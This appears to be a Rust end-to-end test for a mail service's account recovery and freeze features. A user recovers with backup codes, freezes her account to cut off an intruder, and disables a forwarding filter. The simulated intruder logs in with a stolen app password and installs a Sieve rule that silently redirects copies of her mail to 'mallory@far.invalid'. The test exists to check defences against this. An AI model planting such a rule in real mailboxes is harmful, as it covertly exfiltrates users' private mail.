//! The story that the whole of it is for: the phone is lost, the code ends in the inbox, and the intruder is out.

use std::time::{Duration, Instant};

use counterfoil_e2e::letter::code_in;
use counterfoil_e2e::mail_client::{Imap, Sieve};
use counterfoil_e2e::mail_system::Ports;
use counterfoil_e2e::paper::Sheet;
use counterfoil_e2e::{Browser, Lab, Look, Setup};

use super::owner::{IMAP, Owner, SIEVE, SMTP};

const BOB: &str = "bob@example.org";
/// A freeze has ended everything by then.
const AT_ONCE: Duration = Duration::from_secs(2);

#[tokio::test]
async fn a_code_ends_in_the_inbox_and_a_freeze_ends_the_intruder() {
    let mut lab = Lab::start(
        Setup::default().set("service_name", "example.org mail"),
        Ports::free(),
    );
    lab.start_sending();
    lab.start_webmail();
    lab.receives(
        BOB,
        "alice@example.org",
        "Lunch on Friday?",
        "Shall we meet at noon?",
    );

    let mut alice = Owner::arrives(&lab, "Alice").await;
    alice.sets_up_the_phone().await;
    alice.adds_an_outside_address().await;
    let sheet = alice.gets_codes().await;
    let app_password = alice
        .makes_an_app_password("The old laptop", &[IMAP, SMTP, SIEVE])
        .await;
    alice.signs_out().await;
    let intruder = an_intruder_makes_himself_at_home(&lab, &alice.address, &app_password);

    the_phone_is_lost_and_a_code_opens_the_inbox(&alice, &sheet).await;
    a_message_is_sent(&alice).await;
    a_freeze_ends_the_intruder(&alice, intruder, &app_password).await;
    the_forwarding_rule_is_switched_off(&alice, &sheet).await;
}

/// Somebody has a copy of the laptop's app password: reads along, and has everything sent on.
fn an_intruder_makes_himself_at_home(lab: &Lab, login: &str, app_password: &str) -> Imap {
    let mut sieve = Sieve::connect(lab.ports.sieve);
    sieve
        .log_in(login, app_password)
        .is_yes("filters with the app password");
    sieve.run(
        "vacation",
        "require [\"copy\"];\nredirect :copy \"mallory@far.invalid\";\n",
    );
    let mut imap = Imap::connect(lab.ports.imap);
    imap.log_in(login, app_password)
        .is_yes("IMAP with the app password");
    imap.idle();
    imap
}

async fn the_phone_is_lost_and_a_code_opens_the_inbox(alice: &Owner<'_>, sheet: &Sheet) {
    // Another device: it has no cookie of ours.
    alice.browser.forget_cookies().await;
    alice.browser.visit("/sign-in").await;
    alice.types_the_password().await;
    alice.uses_code(sheet, 3).await;
    alice.picture("you-are-in").await;

    alice.opens_webmail().await;
    alice.browser.sees("Lunch on Friday?").await;
    alice.picture("webmail-inbox").await;
}

async fn a_message_is_sent(alice: &Owner<'_>) {
    alice
        .writes(
            BOB,
            "Yes, at noon",
            "My phone is in the river, but I am here.",
        )
        .await;
    let mail = alice
        .lab
        .mail(BOB, &["Subject: Yes, at noon", "My phone is in the river"]);
    assert!(mail.contains("From: alice@example.org"), "{mail}");
}

async fn a_freeze_ends_the_intruder(alice: &Owner<'_>, mut intruder: Imap, app_password: &str) {
    let browser = &alice.browser;
    browser.visit("/freeze").await;
    alice.picture("freeze").await;

    let (imap, login, old) = (
        alice.lab.ports.imap,
        alice.address.clone(),
        app_password.to_owned(),
    );
    let cut_off = std::thread::spawn(move || {
        let hung_up = intruder.hangs_up_within(AT_ONCE * 5);
        hung_up.map(|_| Instant::now())
    });
    let refused = std::thread::spawn(move || {
        let mut worked = Instant::now();
        loop {
            // Dovecot takes two seconds to say no; what counts is when it last said yes.
            let answer = Imap::connect(imap).log_in(&login, &old);
            if !answer.yes {
                // Dovecot asks twice. Whoever was between the two questions when the freeze came wasn't told why.
                let told = Imap::connect(imap).log_in(&login, &old);
                return (worked, told);
            }
            worked = Instant::now();
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    let pressed = Instant::now();
    browser.press("Freeze it now").await;
    let cut_off = cut_off.join().unwrap();
    let cut_off = cut_off.expect("the intruder is still connected") - pressed;
    let (worked, answer) = refused.join().unwrap();
    let worked = worked.saturating_duration_since(pressed);
    println!(
        "after the freeze: an open IMAP session ended in {cut_off:?}, the app password worked for {worked:?}"
    );
    assert!(cut_off < AT_ONCE, "{cut_off:?}");
    assert!(worked < AT_ONCE, "{worked:?}");
    assert!(
        answer
            .text
            .starts_with("NO [ALERT] Your account is frozen."),
        "{}",
        answer.text
    );
    browser.sees("Your account is frozen").await;
    alice.picture("frozen").await;

    // And not for a moment only.
    alice.reads_with(app_password).1.is_no("the app password");
    browser.visit(&alice.lab.roundcube.url()).await;
    browser.does_not_see("Lunch on Friday?").await;
    alice.picture("webmail-frozen").await;
}

async fn the_forwarding_rule_is_switched_off(alice: &Owner<'_>, sheet: &Sheet) {
    let browser = &alice.browser;
    browser.visit("/sign-in").await;
    alice.types_the_password().await;
    browser.sees("What was taken?").await;
    alice.picture("what-was-taken").await;
    browser.press("Choose: My phone").await;
    let code = sheet.line(4).code();
    browser.type_into("One code from your sheet", &code).await;
    browser.press("Use this code").await;
    browser.sees("You are back").await;
    alice.picture("you-are-back").await;
    alice
        .reads_with("whatever")
        .1
        .is_no("a password that is none");

    browser.visit("/mail-filters").await;
    browser.sees("vacation").await;
    browser
        .sees("Sends a copy of your mail to mallory@far.invalid")
        .await;
    alice.picture("mail-filters").await;
    assert!(
        alice
            .lab
            .dovecot
            .filters(&alice.address)
            .contains("vacation ACTIVE")
    );
    browser.press("Switch it off: vacation").await;
    browser.sees("“vacation” is switched off.").await;
    assert!(!alice.lab.dovecot.filters(&alice.address).contains("ACTIVE"));
}

impl<'a> Owner<'a> {
    /// Opens the invitation that an operator handed over, and sets a password.
    pub(super) async fn arrives(lab: &'a Lab, name: &str) -> Self {
        let address = format!("{}@example.org", name.to_lowercase());
        let password = format!("gravel otter window {name}");
        let (status, link, error) = lab
            .server
            .run(&["account", "invite", &address, "--name", name]);
        assert_eq!(status, Some(0), "{error}");
        let browser = Browser::open(lab.server.url(), Look::DESK).await;
        browser.visit(link.trim()).await;
        browser.type_into("Your new password", &password).await;
        browser.press("Create my account").await;
        browser.sees(&format!("Hello, {name}")).await;
        Self {
            lab,
            browser,
            address,
            password,
            phone: None,
        }
    }

    /// Names an address outside the mailbox and confirms it there.
    pub(super) async fn adds_an_outside_address(&self) {
        let outside = self.address.replace("@example.org", "@elsewhere.example");
        self.browser.visit("/addresses").await;
        self.browser
            .type_into("Another mail address of yours", &outside)
            .await;
        self.browser.press("Add an address").await;
        self.browser.sees("We mailed a code to").await;
        let mail = self.lab.mail(&outside, &["Your code from"]);
        self.browser
            .type_into("The code from that mail", &code_in(&mail))
            .await;
        self.browser.press("Confirm this address").await;
        self.browser.sees("is confirmed.").await;
    }

    /// Prints a sheet and proves it.
    pub(super) async fn gets_codes(&self) -> Sheet {
        let browser = &self.browser;
        browser.visit("/").await;
        browser.press("Get my backup codes").await;
        browser
            .tick("I take my paper, type my password and then one code.")
            .await;
        browser.press("Go on").await;
        browser.press("Make my sheet").await;
        let sheet = Sheet::read(&browser.downloaded().await);
        browser.press("It's on paper. Go on").await;
        browser
            .type_into("One code from the new sheet", &sheet.line(1).code())
            .await;
        browser.press("Turn my codes on").await;
        browser.sees("Your backup codes are on").await;
        sheet
    }

    /// Says that the phone is gone, and types this code instead.
    pub(super) async fn uses_code(&self, sheet: &Sheet, number: usize) {
        self.browser.press("I don't have my phone").await;
        self.browser.sees(&sheet.page_words.join(" ")).await;
        let code = sheet.line(number).code();
        self.browser
            .type_into("One code from your sheet", &code)
            .await;
        self.browser.press("Use this code").await;
        self.browser.sees("You're in").await;
    }
}
